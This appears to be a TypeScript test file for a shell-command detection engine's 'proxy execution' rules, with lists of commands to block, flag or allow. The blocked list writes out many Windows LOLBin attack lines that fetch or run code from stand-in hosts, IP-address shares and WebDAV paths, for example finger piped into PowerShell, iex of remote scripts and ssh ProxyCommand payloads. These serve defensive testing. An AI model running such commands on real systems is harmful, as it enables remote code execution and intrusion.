/**
 * Long-tail LOLBins, the generic "LOLBin given a URL or network path" rule, and code run straight
 * from a network share. Each technique: the attack, evasive variants, and look-alikes that stay allowed.
 */
import { describe, expect, it } from 'vitest';
import { proxyExecutionRules } from './proxy-execution';
import { evaluateLine, run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const blocked: Array<[string, Shell, string]> = [
  // cscript/wscript with a forced engine
  ['cscript //E:jscript C:\\Users\\Public\\p.txt', 'cmd', 'proxy.script-host.engine'],
  ['wscript //e:vbscript C:\\Users\\Public\\p.log', 'cmd', 'proxy.script-host.engine'],
  ['C:\\Windows\\System32\\CSCRIPT.EXE //nologo //E:JScript "%TEMP%\\a.dat"', 'cmd', 'proxy.script-host.engine'],
  // finger into a shell
  ['finger user@198.51.100.7 | more +2 | cmd', 'cmd', 'proxy.finger.download'],
  ['finger x@evil.test | powershell -', 'cmd', 'proxy.finger.download'],
  // certoc
  ['certoc.exe -GetCACAPS http://198.51.100.7/p.ps1', 'cmd', 'proxy.certoc'],
  ['certoc -LoadDLL C:\\Users\\Public\\p.dll', 'cmd', 'proxy.certoc'],
  // Squirrel Update.exe
  ['"%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe" --processStart p.exe --process-start-args "x"', 'cmd', 'proxy.squirrel'],
  ['"%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe" --download http://198.51.100.7/p.nupkg', 'cmd', 'proxy.squirrel'],
  ['%LOCALAPPDATA%\\Discord\\Update.exe --update=https://x.test/rel', 'cmd', 'proxy.squirrel'],
  // headless Edge
  [
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --headless --dump-dom "http://198.51.100.7/p.b64" > p.b64',
    'cmd',
    'proxy.msedge.download',
  ],
  ['msedge.exe --headless=new --disable-gpu --dump-dom https://x.test/a', 'cmd', 'proxy.msedge.download'],
  // App Installer protocol
  ['start ms-appinstaller:?source=http://198.51.100.7/p.appx', 'cmd', 'proxy.appinstaller.download'],
  ['Start-Process "ms-appinstaller:?source=https://x.test/a.msix"', 'powershell', 'proxy.appinstaller.download'],
  // winrm invoke Create Win32_Process
  [
    'winrm invoke Create wmicimv2/Win32_Process @{CommandLine="C:\\Users\\Public\\p.exe"} -r:http://10.0.0.5:5985',
    'cmd',
    'proxy.winrm.process-create',
  ],
  ['winrm i create wmicimv2/win32_process @{CommandLine="calc"}', 'cmd', 'proxy.winrm.process-create'],
  // forfiles running a program through cmd /c
  ['forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c C:\\Users\\Public\\p.exe"', 'cmd', 'proxy.forfiles'],
  // catalogue entries
  ['cmdl32 /vpn /lan %cd%\\settings.txt', 'cmd', 'proxy.cmdl32'],
  ['ConfigSecurityPolicy.exe http://198.51.100.7/a.exe', 'cmd', 'proxy.configsecuritypolicy'],
  ['rasautou -d C:\\Users\\Public\\p.dll -p Export -a a -e e', 'cmd', 'proxy.rasautou'],
  ['pcwrun.exe C:\\Users\\Public\\p.exe', 'cmd', 'proxy.pcwrun'],
  ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\jsc.exe C:\\Users\\Public\\p.js', 'cmd', 'proxy.jsc'],
  ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ilasm.exe C:\\Users\\Public\\p.txt /exe', 'cmd', 'proxy.ilasm'],
  ['tracker.exe /d C:\\Users\\Public\\p.dll /c C:\\Windows\\write.exe', 'cmd', 'proxy.tracker'],
  ['msdeploy.exe -verb:sync -source:RunCommand -dest:runCommand="C:\\Users\\Public\\p.bat"', 'cmd', 'proxy.msdeploy'],
  ['findstr /V /L W3AllLov3 \\\\198.51.100.7\\s\\p.exe > C:\\Users\\Public\\p.exe', 'cmd', 'proxy.findstr.download'],
  ['print /D:C:\\Users\\Public\\p.exe \\\\198.51.100.7\\s\\p.exe', 'cmd', 'proxy.print.copy'],
  ['msdt.exe /id PCWDiagnostic /skip force /param "IT_LaunchMethod=ContextMenu"', 'cmd', 'proxy.msdt'],
  ['pcalua -a \\\\198.51.100.7\\s\\p.exe', 'cmd', 'proxy.pcalua'],
  ['expand \\\\198.51.100.7\\s\\p.cab C:\\t\\p.exe', 'cmd', 'proxy.expand.remote'],
  ['extrac32 /Y /C \\\\198.51.100.7\\s\\p.exe C:\\t\\p.exe', 'cmd', 'proxy.expand.remote'],
  ['replace \\\\host\\s\\p.exe C:\\t /A', 'cmd', 'proxy.replace.remote'],
  ['esentutl /y \\\\host\\s\\p.exe /d C:\\t\\p.exe /o', 'cmd', 'proxy.esentutl.copy'],
  // generic: a LOLBin given a URL or network path, whatever the switch
  ['xwizard.exe \\\\198.51.100.7\\s\\p.xml', 'cmd', 'proxy.lolbin.remote'],
  ['installutil.exe \\\\fileserver\\s\\p.dll', 'cmd', 'proxy.lolbin.remote'],
  ['odbcconf -f https://x.test/a.rsp', 'cmd', 'proxy.odbcconf'],
  ['regsvcs http://x.test/a.dll', 'cmd', 'proxy.regsvcs'],
  ['atbroker.exe /x http://198.51.100.7/a', 'cmd', 'proxy.lolbin.remote'],
  ['rundll32 \\\\198.51.100.7\\s\\x.dll,Entry', 'cmd', 'proxy.rundll32.remote'],
  ['rundll32.exe \\\\fileserver@SSL\\s\\x.dll,Entry', 'cmd', 'proxy.rundll32.remote'],
  // code from a network share: IP literal or WebDAV → block
  ['\\\\203.0.113.5\\s\\p.exe', 'cmd', 'proxy.network-share.remote'],
  ['cmd /c \\\\198.51.100.7\\s\\a.bat', 'cmd', 'proxy.network-share.remote'],
  ['. \\\\198.51.100.7\\s\\p.ps1', 'powershell', 'proxy.network-share.remote'],
  ['& "\\\\host@SSL\\share\\x.ps1"', 'powershell', 'proxy.network-share.remote'],
  ['& "\\\\host@80\\share\\x.exe" /q', 'powershell', 'proxy.network-share.remote'],
  ['Start-Process \\\\198.51.100.7\\s\\p.exe', 'powershell', 'proxy.network-share.remote'],
  ['net use \\\\198.51.100.7\\s & start \\\\198.51.100.7\\s\\p.exe', 'cmd', 'proxy.network-share.remote'],
  ['iex (Get-Content \\\\198.51.100.7\\s\\p.ps1 -Raw)', 'powershell', 'proxy.network-share.remote'],
  ['gc \\\\198.51.100.7\\s\\p.ps1 -Raw | iex', 'powershell', 'proxy.network-share.remote'],
  ['Import-Module \\\\198.51.100.7\\s\\m.psm1; Invoke-Payload', 'powershell', 'proxy.network-share.remote'],
  ['powershell -ep bypass -File \\\\10.1.2.3\\s\\p.ps1', 'cmd', 'proxy.network-share.remote'],
  ['cscript \\\\live.example.net\\DavWWWRoot\\p.vbs', 'cmd', 'proxy.network-share.remote'],
  // ... or from the share the text moved to, or from a drive letter mapped to one (WebDAV URLs included)
  ['cmd /c "pushd \\\\upd.example.online@SSL\\DavWWWRoot\\d && start /b update.exe"', 'cmd', 'proxy.network-share.remote'],
  ['pushd \\\\198.51.100.7@8080\\DavWWWRoot\\ & rundll32 x.dll,DllRegisterServer', 'cmd', 'proxy.network-share.remote'],
  ['pushd \\\\198.51.100.7\\s\\tools\r\ncd bin\r\ninvoice.exe /silent', 'cmd', 'proxy.network-share.remote'],
  ['net use Q: https://files.example.online/webdav /persistent:no && Q:\\invoice.exe', 'cmd', 'proxy.network-share.remote'],
  ['New-PSDrive -Name Q -PSProvider FileSystem -Root \\\\198.51.100.7\\s; & Q:\\p.exe', 'powershell', 'proxy.network-share.remote'],
  ['Set-Location \\\\host@SSL\\d; .\\run.ps1', 'powershell', 'proxy.network-share.remote'],
  ['net use R: http://198.51.100.7/dav\r\ncscript //nologo R:\\a.vbs', 'cmd', 'proxy.network-share.remote'],
  // msbuild building a project staged where every user can write
  ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.csproj', 'cmd', 'proxy.msbuild.staged'],
  ['msbuild.exe %TEMP%\\x.proj', 'cmd', 'proxy.msbuild.staged'],
  ['& "$env:WINDIR\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe" $env:TEMP\\p.xml', 'powershell', 'proxy.msbuild.inline'],
  // ssh starting a local program instead of relaying
  ['ssh -o ProxyCommand=calc.exe .', 'cmd', 'proxy.ssh.command'],
  ['ssh -o ProxyCommand="cmd /c C:\\Users\\Public\\p.exe" .', 'cmd', 'proxy.ssh.command'],
  ['ssh -oProxyCommand="sh -c \'id > /tmp/o\'" x', 'bash', 'proxy.ssh.command'],
  ['ssh -o "ProxyCommand /tmp/.x/run %h" host1', 'bash', 'proxy.ssh.command'],
  ['ssh -o PermitLocalCommand=yes -o LocalCommand=/tmp/p.sh host1', 'bash', 'proxy.ssh.command'],
];

const flagged: Array<[string, Shell, string]> = [
  // code from a share named by host name: common in administration → flag
  ['\\\\fileserver\\tools\\setup.exe /quiet', 'cmd', 'proxy.network-share.internal'],
  ['. \\\\corp-fs01\\scripts\\helpers.ps1', 'powershell', 'proxy.network-share.internal'],
  ['cmd /c \\\\deploy\\share\\install.bat', 'cmd', 'proxy.network-share.internal'],
  ['cscript //nologo \\\\corp.local\\netlogon\\logon.vbs', 'cmd', 'proxy.network-share.internal'],
  ['pushd \\\\fileserver\\tools && setup.exe /quiet', 'cmd', 'proxy.network-share.internal'],
  ['net use S: \\\\deploy\\share\r\nS:\\install.bat', 'cmd', 'proxy.network-share.internal'],
];

const allowed: Array<[string, Shell]> = [
  ['msbuild C:\\Users\\alice\\source\\repos\\App\\App.sln /p:Configuration=Release', 'cmd'],
  ['msbuild /t:Build C:\\src\\App\\App.csproj', 'cmd'],
  ['ssh -o ProxyCommand="ssh -W %h:%p bastion.example.com" db01', 'bash'],
  ["ssh -o 'ProxyCommand nc -X connect -x proxy.example.com:3128 %h %p' host1", 'bash'],
  ['ssh -o ProxyCommand="exec ssh -W %h:%p jump" host1', 'bash'],
  ['ssh -o "ProxyCommand=C:\\Windows\\System32\\OpenSSH\\ssh.exe -W %h:%p jump" srv01', 'cmd'],
  ['ssh -o ProxyCommand=none host1', 'bash'],
  ['copy \\\\deploy\\share\\agent.msi C:\\Temp\\', 'cmd'],
  ['dir \\\\fileserver\\logs', 'cmd'],
  ['net use Z: \\\\fileserver\\share', 'cmd'],
  // In a share or on a mapped drive, only what is run counts: listing and copying run nothing.
  ['pushd \\\\upd.example.online@SSL\\d && dir && popd', 'cmd'],
  ['net use Q: https://files.example.online/dav && copy Q:\\report.xlsx C:\\Temp\\', 'cmd'],
  // A drive letter is looked at only once mapped, and PowerShell runs nothing from the working directory by bare name.
  ['Q:\\invoice.exe\r\nnet use Q: https://files.example.online/dav', 'cmd'],
  ['Set-Location \\\\host@SSL\\d; setup.exe', 'powershell'],
  ['pushd \\\\host@SSL\\d\r\npopd\r\nsetup.exe', 'cmd'],
  ['pushd \\\\fileserver\\tools && ipconfig.exe /all', 'cmd'],
  ['robocopy \\\\a\\b C:\\c', 'cmd'],
  ['Copy-Item \\\\198.51.100.7\\s\\report.csv C:\\t\\', 'powershell'],
  ['Get-Content \\\\fileserver\\logs\\app.log -Tail 50', 'powershell'],
  ['Test-Path \\\\198.51.100.7\\s\\p.ps1', 'powershell'],
  ['msiexec /i \\\\deploy\\share\\agent.msi /qn', 'cmd'],
  ['wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName', 'cmd'],
  ['cscript //nologo C:\\Scripts\\report.vbs', 'cmd'],
  ['cscript C:\\Windows\\System32\\slmgr.vbs /dli', 'cmd'],
  ['finger admin@srv01.example.com', 'cmd'],
  ['finger -l', 'bash'],
  ['msedge.exe https://intranet.example.com', 'cmd'],
  ['msedge --headless --print-to-pdf=a.pdf C:\\t\\report.html', 'cmd'],
  ['winrm get winrm/config -r:http://server01:5985', 'cmd'],
  ['winrm quickconfig -q', 'cmd'],
  ['findstr /i error \\\\fileserver\\logs\\app.log', 'cmd'],
  ['findstr /v "^#" C:\\t\\hosts', 'cmd'],
  // The first argument is the search string, even when it looks like a share.
  ['findstr /i /v "\\\\Microsoft\\\\" "%ProgramData%\\MSP\\tasks.csv" > "%ProgramData%\\MSP\\nonms.csv"', 'cmd'],
  ['print C:\\t\\report.txt', 'cmd'],
  ['"%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe" --help', 'cmd'],
  ['msdt.exe /id NetworkDiagnosticsWeb', 'cmd'],
  // The dev corpus treats PowerShell's WMI process creation as administration (only wmic/winrm forms are LOLBAS entries).
  ["Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='notepad.exe'}", 'powershell'],
  ['Get-CimInstance Win32_Process -Filter "Name=\'notepad.exe\'"', 'powershell'],
  ['forfiles /p C:\\logs /m *.tmp /c "cmd /c echo @file"', 'cmd'],
  ['forfiles /p \\\\server\\logs /m *.log /d -30 /c "cmd /c del @path"', 'cmd'],
  ['cdb -y srv*C:\\sym*https://msdl.microsoft.com/download/symbols -z C:\\t\\a.dmp', 'cmd'],
];

describe('proxy execution: long-tail LOLBins and network shares', () => {
  it.each(blocked)('blocks %s', (text, shell, rule) => {
    const f = run(proxyExecutionRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain(rule);
    expect(spansValid(f, text)).toBe(true);
  });

  it.each(flagged)('flags %s', (text, shell, rule) => {
    const f = run(proxyExecutionRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain(rule);
  });

  it.each(allowed)('allows %s', (text, shell) => {
    expect(ruleIds(run(proxyExecutionRules, text, shell))).toEqual([]);
  });

  it('says why an IP-address share is blocked and a named file server only flagged', () => {
    const [remote] = run(proxyExecutionRules, '\\\\203.0.113.5\\s\\p.exe', 'cmd');
    expect(remote?.message).toMatch(/IP address or WebDAV/);
    expect(remote?.remedy).toMatch(/Copy the file/);
    const [internal] = run(proxyExecutionRules, '\\\\fileserver\\s\\p.exe', 'cmd');
    expect(internal?.message).toMatch(/common in administration/);
  });
});

describe('rundll32 and network paths', () => {
  // A printer connection names a print server's queue: an ordinary MSP task, not remote code.
  it.each([
    'rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\queue',
    'rundll32.exe printui.dll,PrintUIEntry /ga /n "\\\\print01\\Floor 2"',
    'rundll32 printui.dll,PrintUIEntry /dn /n \\\\printserver\\old-queue',
  ])('allows %s', (text) => {
    expect(evaluateLine(text, 'cmd').decision).toBe('allow');
  });

  it.each([
    'rundll32 \\\\203.0.113.5\\s\\x.dll,Entry',
    'rundll32.exe "\\\\fileserver\\share\\x.dll",DllMain',
    'rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\q http://x.example/p',
    'rundll32 url.dll,OpenURL http://x.example/a.hta',
  ])('blocks %s (a DLL loaded from a share, or a URL anywhere)', (text) => {
    expect(evaluateLine(text, 'cmd').decision).toBe('block');
  });
});
